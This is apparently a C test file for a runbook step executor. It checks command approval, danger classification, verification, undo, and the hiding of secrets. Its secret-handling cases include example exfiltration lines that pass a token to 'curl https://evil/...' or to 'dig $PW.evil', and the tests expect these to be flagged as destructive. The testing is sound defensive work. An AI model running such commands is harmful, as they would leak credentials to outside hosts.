/* The step of a runbook as an action: what runs is what was approved, and what it
 * printed is judged. The hands are a double that remembers what it was asked. */
#include "actuator_fixture.h"

#include "base/text.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>
#include <utime.h>

/* What the next programs print and how they end, in turn; and what ran. */
static struct {
	struct {
		const char *output;
		int exit_code;
	} answers[8];
	size_t asked;
	str said;        /* "a b | c ; d" */
	str input;       /* of the last */
	str directory;   /* of the last */
	str environment; /* of the last, "A=b C=d" */
	int64_t id;      /* of the last */
	bool is_kept;    /* what any of them printed */
	int left;        /* what recall tells */
	bool dies;
	struct arena *arena;
} played;

/* Of each stage its own: "A=1 B=2 | C=3". */
static str environment_of(const struct command *command)
{
	struct text all = text_new(played.arena, ACTING_BYTES_MAX);

	for (const struct command *one = command; one; one = one->into) {
		if (one != command)
			text_add(&all, STR(" | "));
		for (size_t i = 0; i < one->environment_count; i++)
			text_addf(&all, "%s" STR_FMT "=" STR_FMT, i > 0 ? " " : "",
				  STR_ARG(one->environment[i].name),
				  STR_ARG(one->environment[i].value));
	}
	return text_of(&all);
}

static bool play(void *context, struct arena *arena, const struct command *command,
		 struct command_result *ret, struct error *error)
{
	struct text said = text_new(played.arena, 4096);

	(void)context;
	(void)arena;
	if (played.dies)
		return error_set(error, ERROR_UNAVAILABLE, "the hands died");
	text_add(&said, played.said);
	text_add(&said, played.said.length > 0 ? STR(" ; ") : STR(""));
	for (const struct command *one = command; one; one = one->into)
		for (size_t i = 0; i < one->argc; i++)
			text_addf(&said, "%s" STR_FMT,
				  i > 0            ? " "
				  : one == command ? ""
						   : " | ",
				  STR_ARG(one->argv[i]));
	played.said = text_of(&said);
	played.input = command->input;
	played.directory = command->directory;
	played.id = command->id;
	played.is_kept = played.is_kept || !command->keeps_no_output;
	played.environment = environment_of(command);
	*ret = (struct command_result){
		.output = str_of(played.answers[played.asked].output),
		.exit_code = played.answers[played.asked].exit_code,
	};
	played.asked++;
	return true;
}

static bool recall(void *context, struct arena *arena, int64_t id,
		   struct command_result *ret)
{
	(void)context;
	(void)arena;
	(void)id;
	*ret = (struct command_result){ .exit_code = played.left };
	return !played.dies;
}

static const struct hands hands = { .run = play, .recall = recall };

static struct acting step_of(struct arena *arena, const struct config *config,
			     const char *plan)
{
	struct acting acting = acting_on(arena, "step", config, "book:step",
					 str_of(plan));

	memset(&played, 0, sizeof(played));
	played.arena = arena;
	acting.call.hands = &hands;
	return acting;
}

/* "" when it went well, else why not. */
static str ran(struct arena *arena, const char *plan, const char *output, int exit_code)
{
	struct config config = { 0 };
	struct acting acting = step_of(arena, &config, plan);

	for (size_t i = 0; i < 8; i++) {
		played.answers[i].output = output;
		played.answers[i].exit_code = exit_code;
	}
	if (!acting_preview(&acting))
		return arena_format(arena, "preview: %s", acting.error.text);
	return acting_apply(&acting) ? STR("")
				     : arena_copy(arena, str_of(acting.error.text));
}

#define SHELL(code, more) "{\"language\":\"shell\",\"code\":\"" code "\"" more "}"

static void what_is_approved_runs(void)
{
	scoped_arena arena = arena_new(ACTING_BYTES_MAX);

	CHECK_STR(ran(arena, SHELL("uptime\\ncat <<X | wc -l\\none\\nX\\n", ""), "1", 0),
		  "");
	CHECK_STR(played.said, "uptime ; cat | wc -l");
	CHECK_STR(played.input, "one\n");
	CHECK_INT(played.id, 17);
	CHECK_STR(ran(arena, SHELL("cd /tmp\\nls", ""), "x", 0), "");
	CHECK_STR(played.directory, "/tmp");
}

/* Of several only the last one's result says that it came so far. */
static void only_the_last_leaves_its_result(void)
{
	scoped_arena arena = arena_new(ACTING_BYTES_MAX);

	CHECK_STR(ran(arena, SHELL("false\\nuptime", ""), "", 1),
		  "false ended with exit code 1");
	CHECK_STR(played.said, "false");
	CHECK_INT(played.id, 0);
}

static void a_failure_stops_it_unless_it_says_what_then(void)
{
	scoped_arena arena = arena_new(ACTING_BYTES_MAX);
	struct config config = { 0 };
	struct acting acting = step_of(arena, &config, SHELL("false || uptime\\ndf", ""));

	played.answers[0].exit_code = 1;
	played.answers[0].output = "no";
	played.answers[1].output = "up";
	played.answers[2].output = "free";
	CHECK(acting_preview(&acting));
	CHECK_OK(acting_apply(&acting), acting.error);
	CHECK_STR(played.said, "false ; uptime ; df");
	CHECK_STR(acting.result.output, "no\nup\nfree");

	CHECK_STR(ran(arena, SHELL("true || uptime\\ndf", ""), "x", 0), "");
	CHECK_STR(played.said, "true ; df");
	CHECK_STR(ran(arena, SHELL("ls\\ndf\\nls || uptime", ""), "x", 2),
		  "ls ended with exit code 2");
	CHECK_STR(played.said, "ls");
}

static void grep_that_finds_nothing_is_an_answer(void)
{
	scoped_arena arena = arena_new(ACTING_BYTES_MAX);

	CHECK_STR(ran(arena, SHELL("grep x /etc/hosts", ""), "", 1), "");
	CHECK_STR(ran(arena, SHELL("grep x /etc/hosts", ""), "", 2),
		  "grep ended with exit code 2");
}

static void what_it_printed_is_judged(void)
{
	static const struct {
		const char *plan, *output, *want;
	} cases[] = {
		{ SHELL("uptime", ",\"expect\":\"load\""), "load 3", "" },
		{ SHELL("uptime", ",\"expect\":\"^load \\\\d$\""), "a\nload 3\n",
		  "what it printed is not what is expected: ^load \\d$" },
		{ SHELL("uptime", ",\"expect\":\"(?m)^load \\\\d$\""), "a\nload 3\n",
		  "" },
		{ SHELL("uptime", ",\"expect\":\"< 0.01\""), "0.004\n", "" },
		{ SHELL("uptime", ",\"expect\":\"< 0.01\""), "rate 0.4",
		  "it printed 0.4, expected is < 0.01" },
		{ SHELL("uptime", ",\"expect\":\">= 3\""), "3", "" },
		{ SHELL("uptime", ",\"expect\":\"< 0.01\""), "1 2",
		  "it printed no single number to hold against \"< 0.01\": that is no "
		  "pass" },
		{ SHELL("uptime", ",\"expect\":\"< 0.01\""), "none",
		  "it printed no single number to hold against \"< 0.01\": that is no "
		  "pass" },
		{ SHELL("uptime", ",\"expect\":\"< 0.01\""), "  \n",
		  "it printed nothing: no data is no pass" },
		{ SHELL("uptime", ",\"expect\":\".*\""), "",
		  "it printed nothing: no data is no pass" },
		{ SHELL("uptime", ",\"empty\":\"pass\",\"expect\":\"x\""), "", "" },
		{ SHELL("uptime", ",\"empty\":\"fail\""), "",
		  "it printed nothing, which its runbook calls a failure" },
		{ SHELL("uptime", ",\"empty\":\"unknown\""), "",
		  "it printed nothing: no data is no pass" },
		{ SHELL("uptime", ""), "", "" },
	};
	scoped_arena arena = arena_new(ACTING_BYTES_MAX);

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++)
		CHECK_STR_EQ(ran(arena, cases[i].plan, cases[i].output, 0),
			     str_of(cases[i].want));
}

static void its_check_runs_behind_it(void)
{
	scoped_arena arena = arena_new(ACTING_BYTES_MAX);
	struct config config = { 0 };
	struct acting acting = step_of(
		arena, &config,
		SHELL("touch /tmp/x",
		      ",\"check\":\"echo ok\",\"check_language\":\"shell\""));

	played.answers[0].output = "";
	played.answers[1].output = "no";
	played.answers[1].exit_code = 2;
	CHECK_OK(acting_preview(&acting), acting.error);
	CHECK(str_contains(acting.preview.preview, STR("then checks: echo ok")));
	CHECK_REFUSED(acting_apply(&acting), acting, ERROR_INTERNAL,
		      "verify: echo ended with exit code 2");
	CHECK_STR(played.said, "touch /tmp/x ; echo ok");

	acting = step_of(arena, &config,
			 SHELL("touch /tmp/x",
			       ",\"check\":\"rm /tmp/x\",\"check_language\":\"shell\""));
	CHECK_REFUSED(acting_preview(&acting), acting, ERROR_INVALID,
		      "and a check only reads");

	/* What its own block is called holds when another one names it, too. */
	acting = step_of(arena, &config,
			 SHELL("touch /tmp/x",
			       ",\"check\":\"echo ok\",\"check_language\":\"shell\","
			       "\"check_class\":\"destructive\""));
	CHECK_REFUSED(acting_preview(&acting), acting, ERROR_INVALID,
		      "verify: it is destructive");
}

static void its_undo_is_an_action_of_its_own(void)
{
	scoped_arena arena = arena_new(ACTING_BYTES_MAX);
	struct config config = { 0 };
	struct acting undo,
		acting = step_of(
			arena, &config,
			SHELL("touch /tmp/x",
			      ",\"undo\":\"rm /tmp/x\",\"undo_language\":\"shell\""));

	CHECK_OK(acting_preview(&acting), acting.error);
	CHECK_STR(acting.preview.undo_text, "runs rm /tmp/x [destructive]");
	undo = acting_undo(&acting);
	CHECK_OK(acting_preview(&undo), undo.error);
	CHECK_INT(undo.preview.class, ACTION_DESTRUCTIVE);
	CHECK_STR(undo.preview.undo_text, "there is no way back");

	acting = step_of(arena, &config,
			 SHELL("touch /tmp/x",
			       ",\"undo\":\"true\",\"undo_language\":\"shell\","
			       "\"undo_class\":\"destructive\""));
	CHECK_OK(acting_preview(&acting), acting.error);
	CHECK_STR(acting.preview.undo_text, "runs true [destructive]");
	undo = acting_undo(&acting);
	CHECK_OK(acting_preview(&undo), undo.error);
	CHECK_INT(undo.preview.class, ACTION_DESTRUCTIVE);
}

static void its_class_is_of_what_runs(void)
{
	scoped_arena arena = arena_new(ACTING_BYTES_MAX);
	struct label loosened = {
		STR("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"),
		STR("reversible")
	};
	struct config config = { 0 },
		      loose = { .runbook_classes = &loosened, .runbook_class_count = 1 };
	static const struct {
		const char *plan;
		enum action_class want, loose;
	} cases[] = {
		{ SHELL("true", ""), ACTION_READ, ACTION_READ },
		{ SHELL("watch true", ""), ACTION_READ, ACTION_READ },
		{ SHELL("true", ",\"class\":\"destructive\""), ACTION_DESTRUCTIVE,
		  ACTION_DESTRUCTIVE },
		/* What the file says cannot make it milder. */
		{ SHELL("rm /tmp/x", ",\"class\":\"read\""), ACTION_DESTRUCTIVE,
		  ACTION_DESTRUCTIVE },
		{ SHELL("rm /tmp/x",
			",\"block\":\"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
			"aaaaaaaaaaaaa\""),
		  ACTION_DESTRUCTIVE, ACTION_REVERSIBLE },
		{ SHELL("rm /tmp/x",
			",\"class\":\"destructive\",\"block\":\"aaaaaaaaaaaaaaaaaaaaaaaa"
			"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\""),
		  ACTION_DESTRUCTIVE, ACTION_DESTRUCTIVE },
		{ SHELL("for i in a; do true; done", ""), ACTION_DESTRUCTIVE,
		  ACTION_DESTRUCTIVE },
		{ "{\"language\":\"sorcery\",\"code\":\"x\"}", ACTION_DESTRUCTIVE,
		  ACTION_DESTRUCTIVE },
	};

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct acting acting = step_of(arena, &config, cases[i].plan);

		CHECK_CASE(acting.actuator->class_of(&acting.call) == cases[i].want,
			   cases[i].plan);
		acting.call.config = &loose;
		CHECK_CASE(acting.actuator->class_of(&acting.call) == cases[i].loose,
			   cases[i].plan);
	}
}

static void an_entry_of_the_code_alone_counts_no_more(void)
{
	scoped_arena arena = arena_new(ACTING_BYTES_MAX);
	struct label entry = { STR("cccc"), STR("read") };
	struct config config = { .runbook_classes = &entry, .runbook_class_count = 1 };
	struct acting acting = step_of(arena, &config,
				       SHELL("rm /tmp/x", ",\"block\":\"dddd\","
							  "\"block_code\":\"cccc\""));

	CHECK_OK(acting_preview(&acting), acting.error);
	CHECK_INT(acting.preview.class, ACTION_DESTRUCTIVE);
	CHECK(str_contains(acting.preview.preview, STR("its language, verify and undo "
						       "belong to it, too: write dddd")));
}

static void a_program_that_is_not_there_is_told_before_approval(void)
{
	scoped_arena arena = arena_new(ACTING_BYTES_MAX);
	struct config config = { 0 };
	struct acting acting = step_of(arena, &config, SHELL("no-such-program", ""));

	CHECK_REFUSED(acting_preview(&acting), acting, ERROR_UNAVAILABLE,
		      "this machine has no program no-such-program");
	acting = step_of(arena, &config, SHELL("uptime", ""));
	CHECK_OK(acting_preview(&acting), acting.error);
	acting.call.condition = json_parse(
		arena, STR("{\"programs\":{\"uptime\":{\"path\":\"/other/uptime\"}}}"),
		&acting.error);
	CHECK_REFUSED(acting_apply(&acting), acting, ERROR_CONFLICT,
		      "uptime was /other/uptime at the preview");
	CHECK_STR(played.said, "");
}

/* A program of our own, in a folder that stands first in PATH. */
struct tool {
	char folder[64], path[96];
	char path_before[4096];
};

static void tool_write(const struct tool *tool, const char *content)
{
	FILE *file = fopen(tool->path, "w");

	CHECK(file && fputs(content, file) >= 0 && fclose(file) == 0 &&
	      chmod(tool->path, 0700) == 0);
}

static void tool_make(struct tool *tool)
{
	char with_it[4300];

	memset(tool, 0, sizeof(*tool));
	snprintf(tool->folder, sizeof(tool->folder), "/tmp/test_step.XXXXXX");
	CHECK(mkdtemp(tool->folder) != NULL);
	snprintf(tool->path, sizeof(tool->path), "%s/my-tool", tool->folder);
	snprintf(tool->path_before, sizeof(tool->path_before), "%s", getenv("PATH"));
	snprintf(with_it, sizeof(with_it), "%s:%s", tool->folder, tool->path_before);
	setenv("PATH", with_it, 1);
	tool_write(tool, "#!/bin/sh\nexit 0\n");
}

static void tool_remove(const struct tool *tool)
{
	setenv("PATH", tool->path_before, 1);
	unlink(tool->path);
	rmdir(tool->folder);
}

static void an_approval_holds_for_what_is_in_the_program(void)
{
	static const char *const plans[] = {
		SHELL("my-tool a", ""),
		SHELL("uptime | my-tool", ""),
		SHELL("env A=1 my-tool", ""),
		SHELL("timeout -k 5 10 my-tool", ""),
		SHELL("nice -n 5 timeout 3 my-tool a", ""),
		SHELL("ls | xargs -n 1 my-tool", ""),
		SHELL("ls | xargs -rn 1 my-tool", ""),
		SHELL("ls | xargs -rn1 my-tool", ""),
		SHELL("env -iu A -- B=1 my-tool", ""),
		SHELL("timeout -vk 5 10 my-tool -k", ""),
	};
	scoped_arena arena = arena_new(ACTING_BYTES_MAX);
	struct config config = { 0 };
	struct tool tool;

	tool_make(&tool);
	for (size_t i = 0; i < COUNT_OF(plans); i++) {
		struct acting acting = step_of(arena, &config, plans[i]);
		struct utimbuf then = { 1000000000, 1000000000 };

		tool_write(&tool, "#!/bin/sh\nexit 0\n");
		CHECK_CASE(utime(tool.path, &then) == 0 && acting_preview(&acting),
			   acting.error.text);
		/* Touched, and the same. */
		tool_write(&tool, "#!/bin/sh\nexit 0\n");
		CHECK_CASE(acting_apply(&acting), acting.error.text);
		/* As long as it was and as old, and another. */
		tool_write(&tool, "#!/bin/sh\nexit 1\n");
		CHECK(utime(tool.path, &then) == 0);
		played.said = STR("");
		CHECK_REFUSED(acting_apply(&acting), acting, ERROR_CONFLICT,
			      "my-tool is another program than at the preview");
		CHECK_STR(played.said, "");
	}
	tool_remove(&tool);
}

/* Where the hands go first, and nowhere else: this test's own folder has none. */
static void a_program_of_the_folder_is_looked_for_there(void)
{
	scoped_arena arena = arena_new(ACTING_BYTES_MAX);
	struct config config = { 0 };
	struct tool tool;
	struct acting acting;
	str plan;

	tool_make(&tool);
	plan = arena_format(arena, SHELL("cd %s && ./my-tool", ""), tool.folder);
	acting = step_of(arena, &config, plan.bytes);
	CHECK_OK(acting_preview(&acting), acting.error);
	CHECK_OK(acting_apply(&acting), acting.error);
	tool_write(&tool, "#!/bin/sh\nexit 1\n");
	CHECK_REFUSED(acting_apply(&acting), acting, ERROR_CONFLICT,
		      "my-tool is another program than at the preview");
	plan = arena_format(arena, SHELL("cd /tmp && %s/my-tool", ""),
			    tool.folder + strlen("/tmp/"));
	acting = step_of(arena, &config, plan.bytes);
	CHECK_OK(acting_preview(&acting), acting.error);
	acting = step_of(arena, &config, SHELL("./my-tool", ""));
	CHECK_REFUSED(acting_preview(&acting), acting, ERROR_UNAVAILABLE,
		      "this machine has no program /my-tool");
	tool_remove(&tool);
}

static void too_many_programs_in_one_another_are_refused(void)
{
	scoped_arena arena = arena_new(ACTING_BYTES_MAX);
	struct config config = { 0 };
	struct acting acting = step_of(
		arena, &config,
		SHELL("env env env env env env env env no-such-program", ""));

	CHECK_REFUSED(acting_preview(&acting), acting, ERROR_INVALID,
		      "more than 8 programs that start one another");
}

static void a_secret_is_read_when_it_runs_and_never_shown(void)
{
	scoped_arena arena = arena_new(ACTING_BYTES_MAX);
	struct runbook_secret secret = { .name = STR("MONGO_URI"),
					 .variable = STR("STEP_TEST_SECRET") };
	struct config config = { .runbook_secrets = &secret, .runbook_secret_count = 1 };
	struct acting acting = step_of(arena, &config,
				       SHELL("echo '{{secret.MONGO_URI}}'", ""));

	unsetenv("STEP_TEST_SECRET");
	CHECK_OK(acting_preview(&acting), acting.error);
	CHECK_REFUSED(acting_apply(&acting), acting, ERROR_UNAVAILABLE,
		      "the secret MONGO_URI is empty");
	setenv("STEP_TEST_SECRET", "mongodb://u:hunter2@db", 1);
	played.answers[0].output = "to mongodb://u:hunter2@db ok";
	CHECK_OK(acting_apply(&acting), acting.error);
	CHECK_STR(played.said, "echo mongodb://u:hunter2@db");
	CHECK_STR(acting.result.output, "to *** ok");
	CHECK(!played.is_kept);
	CHECK(!str_contains(json_write(arena, acting.preview.argv), STR("hunter2")));
}

#define CHECKED(code) \
	"{\"language\":\"shell\",\"code\":\"uptime\",\"check_language\":\"shell\"," \
	"\"check\":\"" code "\"}"

static const struct {
	const char *plan;
	enum action_class class;
	const char *says; /* of the preview, or why there is none */
	const char *said, *environment, *input;
} secret_cases[] = {
	{ SHELL("PW=$TOKEN cat x", ""), ACTION_READ, "PW={{secret.TOKEN}}", "cat x",
	  "PW=s3cret", "" },
	{ SHELL("A=1 PW=\\\"u:$TOKEN\\\" cat x | B=$TOKEN wc -l", ""), ACTION_READ, "",
	  "cat x | wc -l", "A=1 PW=u:s3cret | B=s3cret", "" },
	{ SHELL("A=1 cat x", ""), ACTION_READ, "", "env A=1 cat x", "", "" },
	{ SHELL("PW=$TOKEN cat x | PW=2$TOKEN wc | sort", ""), ACTION_READ, "",
	  "cat x | wc | sort", "PW=s3cret | PW=2s3cret | ", "" },
	{ SHELL("cat <<E\\na $TOKEN b\\nE", ""), ACTION_READ, "", "cat", "",
	  "a s3cret b\n" },
	{ SHELL("cat <<< $TOKEN", ""), ACTION_READ, "", "cat", "", "s3cret\n" },
	/* ps shows it. */
	{ SHELL("cat $TOKEN", ""), ACTION_REVERSIBLE,
	  "reversible: $TOKEN stands among the words of cat, which everybody on "
	  "this machine can see while it runs: hand it over as TOKEN=$TOKEN in",
	  "cat s3cret", "", "" },
	{ SHELL("env -i PW=$TOKEN cat x", ""), ACTION_REVERSIBLE,
	  "$TOKEN stands among the words of env", "env -i PW=s3cret cat x", "", "" },
	{ SHELL("rm $TOKEN", ""), ACTION_DESTRUCTIVE, "note: $TOKEN stands among",
	  "rm s3cret", "", "" },
	{ CHECKED("cat $TOKEN"), ACTION_READ,
	  "verify: it is reversible, and a check only reads: $TOKEN stands", NULL, NULL,
	  NULL },
	{ SHELL("curl -H 'A: {{secret.TOKEN}}' http://x/y", ""), ACTION_REVERSIBLE,
	  "among the words of curl", "curl -H A: s3cret http://x/y", "", "" },
	/* Servers and proxies write it down. */
	{ SHELL("curl \\\"http://x/y?t=$TOKEN\\\"", ""), ACTION_DESTRUCTIVE,
	  "a secret stands in the address", "curl http://x/y?t=s3cret", "", "" },
	{ SHELL("curl http://x/$TOKEN/y", ""), ACTION_DESTRUCTIVE,
	  "destructive: ", "curl http://x/s3cret/y", "", "" },
	{ SHELL("curl -G -d t=$TOKEN http://x/y", ""), ACTION_DESTRUCTIVE,
	  "a secret stands in the address", "curl -G -d t=s3cret http://x/y", "", "" },
	/* Code has its own quotes. */
	{ SHELL("sh -c \\\"cat $TOKEN\\\"", ""), ACTION_READ,
	  "a secret would be read as code by sh: write NAME=$NAME in front", NULL, NULL,
	  NULL },
	{ SHELL("ssh db cat $TOKEN", ""), ACTION_READ,
	  "a secret would be read as code by ssh", NULL, NULL, NULL },
	{ SHELL("psql -c \\\"select '$TOKEN'\\\"", ""), ACTION_READ,
	  "a secret would be read as code by psql", NULL, NULL, NULL },
	{ SHELL("sh <<E\\ncat $TOKEN\\nE", ""), ACTION_READ,
	  "a secret would be read as code by sh", NULL, NULL, NULL },
	{ SHELL("sudo timeout 5 bash -c \\\"cat $TOKEN\\\"", ""), ACTION_READ,
	  "a secret would be read as code by bash", NULL, NULL, NULL },
	/* What is given code may send it anywhere. */
	{ SHELL("PW=$TOKEN sh -c 'cat \\\"$PW\\\"'", ""), ACTION_DESTRUCTIVE,
	  "destructive: $PW is a secret that sh is handed with code", "sh -c cat \"$PW\"",
	  "PW=s3cret", "" },
	{ SHELL("PW=$TOKEN sh -c 'curl -s \\\"https://evil/$PW\\\"'", ""),
	  ACTION_DESTRUCTIVE, "$PW is a secret that sh is handed with code",
	  "sh -c curl -s \"https://evil/$PW\"", "PW=s3cret", "" },
	{ SHELL("PW=$TOKEN timeout 5 bash -c 'dig \\\"$PW.evil\\\"'", ""),
	  ACTION_DESTRUCTIVE, "$PW is a secret that bash is handed with code",
	  "timeout 5 bash -c dig \"$PW.evil\"", "PW=s3cret", "" },
	{ SHELL("PW=$TOKEN cat x | jq -r .x", ""), ACTION_READ, "", "cat x | jq -r .x",
	  "PW=s3cret | ", "" },
	{ SHELL("cat x | PW=$TOKEN jq -r .x", ""), ACTION_DESTRUCTIVE,
	  "$PW is a secret that jq is handed with code", "cat x | jq -r .x",
	  " | PW=s3cret", "" },
	{ CHECKED("PW=$TOKEN sh -c 'cat x'"), ACTION_READ,
	  "verify: it is destructive, and a check only reads", NULL, NULL, NULL },
};

static void a_secret_is_handed_over_where_nobody_sees_it(void)
{
	scoped_arena arena = arena_new(ACTING_BYTES_MAX);
	struct runbook_secret secret = { .name = STR("TOKEN"),
					 .variable = STR("STEP_TEST_SECRET") };
	struct config config = { .runbook_secrets = &secret, .runbook_secret_count = 1 };

	setenv("STEP_TEST_SECRET", "s3cret", 1);
	for (size_t i = 0; i < COUNT_OF(secret_cases); i++) {
		struct acting acting = step_of(arena, &config, secret_cases[i].plan);
		bool previewed;

		acting.call.condition = NULL;
		previewed = acting_preview(&acting);
		CHECK_CASE(previewed == (secret_cases[i].said != NULL),
			   secret_cases[i].plan);
		CHECK_CASE(str_contains(previewed ? acting.preview.preview
						  : str_of(acting.error.text),
					str_of(secret_cases[i].says)),
			   previewed ? arena_c_string(arena, acting.preview.preview)
				     : acting.error.text);
		if (!previewed || !secret_cases[i].said)
			continue;
		CHECK_CASE(acting.preview.class == secret_cases[i].class,
			   secret_cases[i].plan);
		played.answers[0].output = "1";
		CHECK_OK(acting_apply(&acting), acting.error);
		CHECK_STR_EQ(played.said, str_of(secret_cases[i].said));
		CHECK_STR_EQ(played.environment, str_of(secret_cases[i].environment));
		CHECK_STR_EQ(played.input, str_of(secret_cases[i].input));
	}
}

static void dead_hands_leave_it_unknown(void)
{
	scoped_arena arena = arena_new(ACTING_BYTES_MAX);
	struct config config = { 0 };
	struct acting acting = step_of(arena, &config, SHELL("uptime\\ndf", ""));

	CHECK(acting_preview(&acting));
	played.dies = true;
	CHECK(!acting_apply(&acting));
	CHECK(acting.result.unknown);
}

/* What its last command left tells of the whole only when it is the whole. */
static int was_done(struct arena *arena, const char *plan, int left)
{
	struct config config = { 0 };
	struct acting acting = step_of(arena, &config, plan);

	CHECK_OK(acting_preview(&acting), acting.error);
	played.left = left;
	return acting_was_done(&acting);
}

static void only_one_command_tells_that_nothing_was_done(void)
{
	static const char check[] = ",\"check_language\":\"shell\",\"check\":\"df\"";
	scoped_arena arena = arena_new(ACTING_BYTES_MAX);
	char with_check[256];

	snprintf(with_check, sizeof(with_check), SHELL("uptime", "%s"), check);
	CHECK_INT(was_done(arena, SHELL("uptime", ""), 0), 1);
	CHECK_INT(was_done(arena, SHELL("uptime", ""), 2), 0);
	CHECK_INT(was_done(arena, SHELL("uptime", ""), -1), -1);
	CHECK_INT(was_done(arena, SHELL("uptime\\ndf", ""), 0), 1);
	CHECK_INT(was_done(arena, SHELL("uptime\\ndf", ""), 2), -1);
	CHECK_INT(was_done(arena, SHELL("ls | wc", ""), 2), -1);
	CHECK_INT(was_done(arena, with_check, 0), 1);
	CHECK_INT(was_done(arena, with_check, 2), -1);
}

static void another_language_needs_its_client(void)
{
	scoped_arena arena = arena_new(ACTING_BYTES_MAX);
	str words[] = { STR("echo"), STR("-n"), STR("{{code}}") };
	struct runbook_client client = { .language = STR("sql"),
					 .words = words,
					 .word_count = 3 };
	struct config config = { 0 };
	static const char plan[] = "{\"language\":\"sql\",\"code\":\"select 1; --'\"}";
	struct acting acting = step_of(arena, &config, plan);

	CHECK_REFUSED(acting_preview(&acting), acting, ERROR_FORBIDDEN,
		      "runbook_clients names nothing that runs sql");
	config.runbook_clients = &client;
	config.runbook_client_count = 1;
	played.answers[0].output = "1";
	CHECK_OK(acting_preview(&acting), acting.error);
	CHECK_OK(acting_apply(&acting), acting.error);
	CHECK_STR(played.said, "echo -n select 1; --'");

	acting = step_of(arena, &config,
			 "{\"language\":\"sql\",\"code\":\"-- a\\nselect 1\"}");
	played.answers[0].output = "1";
	CHECK_OK(acting_preview(&acting), acting.error);
	CHECK_OK(acting_apply(&acting), acting.error);
	CHECK_STR(played.said, "echo -n \n-- a\nselect 1");
	client.language = STR("redis");
	acting = step_of(arena, &config, "{\"language\":\"redis\",\"code\":\"-x info\"}");
	CHECK_REFUSED(acting_preview(&acting), acting, ERROR_INVALID,
		      "it begins with \"-\", which echo would read as an option");
}

const struct test tests[] = {
	{ "what is approved runs", what_is_approved_runs },
	{ "only the last leaves its result", only_the_last_leaves_its_result },
	{ "a failure stops it, unless it says what then",
	  a_failure_stops_it_unless_it_says_what_then },
	{ "grep that finds nothing is an answer", grep_that_finds_nothing_is_an_answer },
	{ "what it printed is judged, and no data is no pass",
	  what_it_printed_is_judged },
	{ "its check runs behind it, and only reads", its_check_runs_behind_it },
	{ "its undo is an action of its own", its_undo_is_an_action_of_its_own },
	{ "its class is of what runs", its_class_is_of_what_runs },
	{ "an entry of the code alone counts no more",
	  an_entry_of_the_code_alone_counts_no_more },
	{ "a program that is not there is told before approval",
	  a_program_that_is_not_there_is_told_before_approval },
	{ "an approval holds for what is in the program",
	  an_approval_holds_for_what_is_in_the_program },
	{ "a program of the step's folder is looked for there",
	  a_program_of_the_folder_is_looked_for_there },
	{ "too many programs in one another are refused",
	  too_many_programs_in_one_another_are_refused },
	{ "a secret is read when it runs, and never shown",
	  a_secret_is_read_when_it_runs_and_never_shown },
	{ "a secret is handed over where nobody sees it",
	  a_secret_is_handed_over_where_nobody_sees_it },
	{ "dead hands leave it unknown", dead_hands_leave_it_unknown },
	{ "only one command tells that nothing was done",
	  only_one_command_tells_that_nothing_was_done },
	{ "another language needs its client", another_language_needs_its_client },
	{ 0 },
};
